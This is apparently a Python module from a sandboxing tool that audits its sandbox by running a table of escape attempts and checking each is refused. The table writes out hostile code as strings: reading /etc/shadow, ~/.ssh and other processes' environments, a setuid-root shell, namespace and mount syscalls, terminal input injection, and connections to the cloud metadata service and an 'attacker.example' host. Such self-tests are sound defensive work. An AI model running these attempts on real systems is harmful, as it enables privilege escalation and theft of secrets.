"""The attack table: what a hostile command would try, run for real in the sandbox of this machine.

Each attack is a piece of Python.  It holds if the attack is refused with an OSError or a signal; an attack
that comes to its end, or that breaks for another reason (so that nothing was shown), does not hold.
"""

import os
import socket
import sys
import tempfile
import textwrap
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path
from typing import TypedDict

from tinsmith.workspace.interpreter import inspect_python
from tinsmith.workspace.sandbox import Sandbox


class AuditRow(TypedDict):
    """One attack and how it went."""

    attack: str
    holds: bool
    saw: str


_SYSCALL = """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def syscall(x86, arm, *arguments):
    number = x86 if platform.machine() == "x86_64" else arm
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
"""

_ATTACKS: dict[str, str] = {
    "read a file of the host outside the copy": "open(CANARY).read()",
    "read the home directory": "open(os.path.join(HOST_HOME, '.')); os.listdir(HOST_HOME + '/.ssh')",
    "read a host file through /proc/1/root": "open('/proc/1/root' + CANARY).read()",
    "read /etc/shadow": "open('/etc/shadow').read()",
    "read the host's environment": (
        "pids = [name for name in os.listdir('/proc') if name.isdigit()]\n"
        "data = b''.join(open(f'/proc/{pid}/environ', 'rb').read() for pid in pids)\n"
        "if b'TINSMITH_AUDIT_SECRET' not in data: raise OSError('not there')"
    ),
    "find a secret in its own environment": (
        "if 'TINSMITH_AUDIT_SECRET' not in os.environ: raise OSError('not there')"
    ),
    "read the host's shared memory": "open('/dev/shm/' + SHM).read()",
    "write to /usr": "open('/usr/bin/tinsmith-audit', 'w')",
    "write to /": "open('/tinsmith-audit', 'w')",
    "write to /etc": "open('/etc/passwd', 'a')",
    "write through a symlink": "os.symlink('/etc', 'l'); open('l/cron', 'w')",
    "hard-link a system file": "os.link('/usr/bin/env', 'e')",
    "make a device node": "os.mknod('d', 0o060600, os.makedev(254, 0))",
    "gain root by a set-user-id program": (
        "import shutil\nshutil.copy('/bin/sh', 's'); os.chmod('s', 0o4755)\n"
        "uid = subprocess.check_output(['./s', '-p', '-c', 'id -u']).strip()\n"
        "if uid != b'0': raise OSError('still 1000')"
    ),
    "set core_pattern": "open('/proc/sys/kernel/core_pattern', 'w')",
    "trigger sysrq": "open('/proc/sysrq-trigger', 'w').write('h')",
    "see control groups": "os.listdir('/sys/fs/cgroup')",
    "mount": _SYSCALL + "syscall(165, 40, b'/tmp', b'/etc', None, 4096, None)",
    "remount the root writable": _SYSCALL + "syscall(165, 40, None, b'/', None, 32, None)",
    "unmount": _SYSCALL + "syscall(166, 39, b'/usr', 2)",
    "make a user namespace": _SYSCALL + "syscall(272, 97, 0x10000000)",
    "make a user namespace by clone": _SYSCALL + "syscall(56, 220, 0x10000000 | 17, 0, 0, 0, 0)",
    "enter the first process's namespace": _SYSCALL + "syscall(308, 268, os.open('/proc/1/ns/mnt', os.O_RDONLY), 0)",
    "chroot": "os.chroot('/tmp')",
    "open by file handle": _SYSCALL + "syscall(304, 265, 3, 0, 0)",
    "ptrace": _SYSCALL + "syscall(101, 117, 16, 1, 0, 0)",
    "read another process's memory": _SYSCALL + "syscall(310, 270, 1, 0, 0, 0, 0, 0)",
    "io_uring": _SYSCALL + "syscall(425, 425, 1, 0)",
    "bpf": _SYSCALL + "syscall(321, 280, 0, 0, 0)",
    "userfaultfd": _SYSCALL + "syscall(323, 282, 1)",
    "the kernel's key ring": _SYSCALL + "syscall(250, 219, 0, -3, 1)",
    "push input into the terminal": "import fcntl; fcntl.ioctl(0, 0x5412, b'x')",
    "kill a process of the host": "os.kill(HOST_PID, 9)",
    "see disks, kvm or the host's memory": (
        "if not any(os.path.exists('/dev/' + d) for d in ('vda', 'sda', 'kvm', 'mem', 'fuse', 'vsock')): "
        "raise OSError('not there')"
    ),
    "keep an inherited file": (
        "fds = os.listdir('/proc/self/fd')\n"
        "extra = [fd for fd in fds if int(fd) > 2 and os.path.exists(f'/proc/self/fd/{fd}')]\n"
        "if not extra: raise OSError('none')"
    ),
    "reach the internet": "socket.create_connection(('1.1.1.1', 443), 3)",
    "reach the cloud's metadata service": "socket.create_connection(('169.254.169.254', 80), 3)",
    "resolve a name": "socket.getaddrinfo('secret.attacker.example', 443)",
    "send a datagram": "socket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53))",
    "reach a server on the host's loopback": "socket.create_connection(('127.0.0.1', PORT), 3)",
    "reach an abstract socket of the host": "s = socket.socket(1); s.connect('\\0' + ABSTRACT)",
    "reach a UNIX socket of the host": "s = socket.socket(1); s.connect(UNIX)",
    "a VSOCK socket": "socket.socket(40, 1)",
    "a packet socket": "socket.socket(17, 3)",
    "a raw socket": "socket.socket(2, 3, 1)",
    "fill the memory": (
        "try:\n    blocks = bytearray(64 << 30)\nexcept MemoryError:\n    raise OSError('MemoryError') from None"
    ),
}


def audit(sandbox: Sandbox) -> list[AuditRow]:
    """Run the table; about four seconds.  A sandbox for which a row does not hold must not be used."""
    python = inspect_python(Path(sys.executable), Path("/nonexistent"))
    rows: list[AuditRow] = []
    with (
        tempfile.TemporaryDirectory(prefix="tinsmith-audit-") as directory,
        _canaries(Path(directory)) as names,
    ):
        work = Path(directory, "work")
        preamble = "import os, socket, subprocess, sys\n" + "".join(
            f"{name} = {value!r}\n" for name, value in {**names, "WORK": str(work)}.items()
        )
        for attack, code in _ATTACKS.items():
            work.mkdir()
            program = (
                f"{preamble}try:\n{textwrap.indent(code, '    ')}\n"
                "except OSError as error:\n    print('REFUSED', error)\nelse:\n    print('SUCCEEDED')\n"
            )
            done = sandbox.run(
                [str(python.path), "-I", "-c", program],
                cwd=work,
                timeout=20,
                extra_ro_binds=[(mount, mount) for mount in python.mounts],
                extra_rw_binds=[(work, work)],
                symlinks=python.symlinks,
            )
            words = done.output.decode(errors="replace").strip().splitlines()
            last = words[-1] if words else f"exit status {done.returncode}"
            rows.append({"attack": attack, "holds": last.startswith("REFUSED"), "saw": last})
            for left in work.iterdir():
                left.unlink()
            work.rmdir()
        # It may succeed on a tmpfs of the sandbox; what counts is the host.
        work.mkdir()
        sandbox.run(["/bin/sh", "-c", "echo x > ../evil"], cwd=work, timeout=20, extra_rw_binds=[(work, work)])
        left = sorted(set(os.listdir(directory)) - {"canary", "socket", "work"})
        rows.append({"attack": "write beside the copy", "holds": not left, "saw": f"left: {left}"})
    return rows


@contextmanager
def _canaries(directory: Path) -> Generator[dict[str, object]]:
    """Things of the host that the attacks try to reach."""
    canary = directory / "canary"
    canary.write_text("secret")
    shm = Path("/dev/shm", directory.name)
    abstract = directory.name
    unix = str(directory / "socket")
    sockets = [socket.socket(socket.AF_INET), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    had = os.environ.get("TINSMITH_AUDIT_SECRET")
    try:
        shm.write_text("secret")
        os.environ["TINSMITH_AUDIT_SECRET"] = "secret"
        sockets[0].bind(("127.0.0.1", 0))
        sockets[1].bind("\0" + abstract)
        sockets[2].bind(unix)
        for listener in sockets:
            listener.listen()
        yield {
            "CANARY": str(canary),
            "SHM": shm.name,
            "PORT": sockets[0].getsockname()[1],
            "ABSTRACT": abstract,
            "UNIX": unix,
            "HOST_PID": os.getpid(),
            "HOST_HOME": str(Path.home()),
        }
    finally:
        for listener in sockets:
            listener.close()
        shm.unlink(missing_ok=True)
        if had is None:
            os.environ.pop("TINSMITH_AUDIT_SECRET", None)
